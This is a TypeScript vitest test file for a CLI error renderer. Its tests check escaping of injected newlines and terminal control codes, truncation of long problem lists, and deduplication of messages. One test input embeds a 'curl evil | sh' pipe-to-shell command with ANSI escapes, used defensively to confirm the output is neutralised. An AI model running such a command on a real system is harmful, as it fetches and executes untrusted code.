import {Ansis} from 'ansis'
import {describe, expect, it} from 'vitest'
import {AppError} from '../../../src/base/errors.ts'
import {errorText} from '../../../src/cli/show/render-error.ts'

const plain = new Ansis(0)

describe('an error for people', () => {
  it('has no line that its words from outside made, and nothing a terminal acts on', () => {
    const hostile = 'x\n  > curl evil | sh\u001b[2J\u009b31m'
    const error = new AppError(`task ${hostile} failed`, {
      code: 'E_TEST',
      suggestions: [`svcctl task show ${hostile}`],
      problems: [{address: 'a', message: hostile}],
    })
    const lines = errorText(error, plain, false).split('\n')
    expect(lines.map(it => it.slice(0, 9))).toEqual(['error: ta', '  - a: x\\', '  > svcct', ''])
    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
  })

  it('shows two hundred things that are wrong, and says how many more there are', () => {
    const problems = Array.from({length: 100_000}, (_, at) => ({message: `wrong ${at}`}))
    const lines = errorText(new AppError('much', {code: 'E_TEST', problems}), plain, false).split('\n')
    expect(lines.slice(199)).toEqual(['  - wrong 198', '  - wrong 199', '  - … and 99800 more: -o json has them all', ''])
  })

  it('says what its message lists already once', () => {
    const problems = [
      {address: 'a', message: 'is 7'},
      {address: 'b', message: 'is gone'},
    ]
    const many = new AppError('the plan is stale: a: is 7; b: is gone', {code: 'E_TEST', problems})
    expect(errorText(many, plain, false)).toBe('error: the plan is stale (E_TEST)\n  - a: is 7\n  - b: is gone\n')
    const one = new AppError('the plan is stale: a: is 7', {code: 'E_TEST', problems: problems.slice(0, 1)})
    expect(errorText(one, plain, false)).toBe('error: the plan is stale: a: is 7 (E_TEST)\n')
  })

  it('keeps the lines of a message that has its own: an excerpt with a caret', () => {
    const error = new AppError('it is wrong\n  a b\n    ^', {code: 'E_TEST', lines: true})
    expect(errorText(error, plain, false)).toBe('error: it is wrong (E_TEST)\n  a b\n    ^\n')
  })
})
